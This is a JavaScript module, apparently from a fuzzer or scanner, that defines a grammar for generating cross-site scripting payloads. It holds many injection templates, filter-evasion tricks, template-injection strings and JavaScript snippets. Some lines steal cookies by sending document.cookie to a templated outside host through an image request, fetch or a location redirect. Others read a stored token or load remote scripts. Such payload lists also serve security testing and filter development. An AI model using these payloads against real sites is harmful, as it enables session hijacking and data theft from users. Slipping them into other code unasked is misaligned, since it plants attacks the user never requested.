/** Scripts in a page. */
import { lines } from './grammar.mjs'

export const MARKUP = {
  xss: lines`
    §brk§<script>§js§</script>
    §brk§<script>§js§</script>§rnd§
    §brk§<script src=§url§></script>
    <script>§js§//
    §brk§<§tag§ §event§=§js§>
    §brk§<§tag§ src=x §event§=§js§>
    §brk§<§tag§ §event§="§js§">
    §brk§<§tag§ §event§='§js§'>§rnd§</§tag§>
    §brk§<§tag§/§event§=§js§>
    §brk§<§tag§ §attr§ §event§=§js§ §attr§>
    §brk§<img src=x onerror=§js§>
    §brk§<img src="x:§rnd§" onerror="§js§">
    §brk§<svg onload=§js§>
    §brk§<svg/onload=§js§>
    §brk§<svg><script>§js§</script></svg>
    §brk§<svg><animate onbegin=§js§ attributeName=x dur=1s>
    §brk§<iframe src="javascript:§js§">
    §brk§<iframe srcdoc="<script>§js§</script>">
    §brk§<a href="javascript:§js§">§rnd§</a>
    §brk§<a href=javascript:§js§>click
    §brk§<body onload=§js§>
    §brk§<input autofocus onfocus=§js§>
    §brk§<details open ontoggle=§js§>
    §brk§<video><source onerror="§js§">
    §brk§<object data="data:text/html;base64,§b64§">
    §brk§<embed src="javascript:§js§">
    §brk§<form action="javascript:§js§"><input type=submit>
    §brk§<button formaction=javascript:§js§>§rnd§
    §brk§<meta http-equiv="refresh" content="0;url=javascript:§js§">
    §brk§<link rel=import href=§url§>
    §brk§<base href="§url§">
    §brk§<style>@import '§url§';</style>
    §brk§<style>@keyframes x{}</style><§tag§ style="animation-name:x" onanimationend="§js§"></§tag§>
    §brk§<math><mtext><table><mglyph><style><img src=x onerror=§js§>
    §brk§<noscript><p title="</noscript><img src=x onerror=§js§>">
    javascript:§js§
    javascript:/*--></title></style></textarea></script>§brk§<svg/onload='§js§'>
    JaVaScRiPt:§js§
    java&#x09;script:§js§
    data:text/html,<script>§js§</script>
    data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
    vbscript:msgbox(§n§)
    §q1§ §event§=§js§ §rnd§=§q1§
    §q1§ §event§=§q1§§js§
    §q1§ autofocus onfocus=§js§ x=§q1§
    §q1§-§js§-§q1§
    §q1§;§js§;//
    §q1§;§js§;§q1§
    §q1§});§js§;//
    \\§q1§;§js§//
    </script><script>§js§</script>
    </title><script>§js§</script>
    </textarea><img src=x onerror=§js§>
    --><script>§js§</script>
    ]]><script>§js§</script>
    <![CDATA[<script>§js§</script>]]>
    <scr<script>ipt>§js§</scr</script>ipt>
    <SCRIPT SRC=§url§></SCRIPT>
    <<script>§js§;//<</script>
    <img """><script>§js§</script>">
    <img src=javascript:§js§>
    <div style="background-image:url(javascript:§js§)">
    <div style="width:expression(§js§)">
    <xss style="-moz-binding:url(§url§)">
    <§tag§ onpointerenter=§js§>§rnd§</§tag§>
    <x contenteditable onblur=§js§>lose focus
    <marquee onstart=§js§>
    <table background="javascript:§js§">
    <isindex type=image src=1 onerror=§js§>
    <audio src onloadstart=§js§>
    <select onfocus=§js§ autofocus>
    <script/src=data:,§js§></script>
    <script x>§js§</script x>
    <script>eval(atob('§b64§'))</script>
    <img src=x onerror=eval(atob('§b64§'))>
    {{constructor.constructor('§js§')()}}
    {{$on.constructor('§js§')()}}
    [].constructor.constructor('§js§')()
    §brk§<script>var i=new Image();i.src="§url§?c="+document.cookie</script>
    §brk§<script>fetch('§url§?'+document.cookie)</script>
    <%00script>§js§</script>
    <script\\x20type="text/javascript">§js§;</script>
    \`"'><img src=x onerror=§js§>
    <a onmouseover="§js§">§rnd§</a>
    <p draggable=true ondragstart=§js§>§rnd§
    <template><script>§js§</script></template>
    <!--<img src="--><img src=x onerror=§js§//">
    <frameset onload=§js§>
    <set attributeName=onmouseover to=§js§>
    <use href="data:image/svg+xml;base64,§b64§#x">
  `,
  brk: [
    '',
    '',
    '',
    '">',
    "'>",
    '"/>',
    '>',
    '">',
    '"><',
    "'/>",
    '--></',
    '</title>',
    '</textarea>',
    '</style>',
    '</div>',
    '§rnd§',
    '§rnd§">',
    "';",
    '1">',
    ' ',
  ],
  q1: ['"', "'", '`'],
  js: [
    'alert(1)',
    'alert(§n§)',
    "alert('XSS')",
    'alert("§rnd§")',
    'alert(document.cookie)',
    'alert(document.domain)',
    'prompt(§n§)',
    'confirm(1)',
    'alert`1`',
    'eval(name)',
    "eval('al'+'ert(1)')",
    "window.location='§url§'",
    'document.location="§url§?"+document.cookie',
    'top["al"+"ert"](1)',
    'self[/*x*/`alert`](1)',
    'String.fromCharCode(88,83,83)',
    'alert(String.fromCharCode(§nn§,§nn§))',
    'document.write("<img src=§url§>")',
    "import('§url§')",
    'fetch(`§url§`)',
    'print()',
    'throw onerror=alert,1',
    "setTimeout('alert(1)')",
    '(alert)(1)',
    'a=alert,a(1)',
    '[1].find(alert)',
    'new Function`al\\ert\\`1\\``',
    'alert(window.origin)',
    'location=name',
    'alert(this)',
    'window["alert"](1)',
    'alert&lpar;1&rpar;',
    'alert&#40;1&#41;',
    '\\u0061lert(1)',
    'javascript:alert(1)',
    "$.getScript('§url§')",
    'document.body.innerHTML=1',
    "localStorage.getItem('token')",
    'console.log(1)',
    'prompt()',
    'alert()',
    'alert(/§rnd§/)',
  ],
  url: [
    '//§host§/x.js',
    'http://§host§/§rnd§',
    'https://§host§/§rnd§.js',
    '//§host§',
    'http://§host§',
    'https://§host§/?c=',
  ],
  tag: 'img svg body iframe input video audio a div p span button details marquee select textarea object embed form table td b i h1 br hr style title label fieldset legend option article section nav footer strong em x xss custom image math keygen meter progress ruby canvas area map picture source track dialog summary font center u s pre code q ins del abbr time mark template slot svg/ img/'.split(
    ' ',
  ),
  event:
    'onerror onload onclick onmouseover onfocus onblur onchange oninput onsubmit onkeydown onkeyup onkeypress onmousedown onmouseup onmousemove onmouseenter onmouseleave ondblclick oncontextmenu onwheel onscroll ontoggle onpointerdown onpointerover onpointerenter onanimationstart onanimationend ontransitionend onbeforeunload onhashchange onmessage onpageshow onpopstate onresize onunload oncopy oncut onpaste ondrag ondragstart ondrop onplay onloadstart oncanplay onended onbegin onstart onfinish onsearch onselect oninvalid onreset onfocusin onfocusout onauxclick onbeforeinput onloadeddata ontimeupdate onreadystatechange OnErRoR ONLOAD oNcliCk'.split(
      ' ',
    ),
  attr: [
    '',
    'id=x',
    'autofocus',
    'tabindex=1',
    'contenteditable',
    'style=display:block',
    'src=x',
    'src="1"',
    'href=#',
    'class="§rnd§"',
    'type=image',
    'open',
    'controls',
    'width=§num§',
    'draggable="true"',
    'hidden',
  ],
}
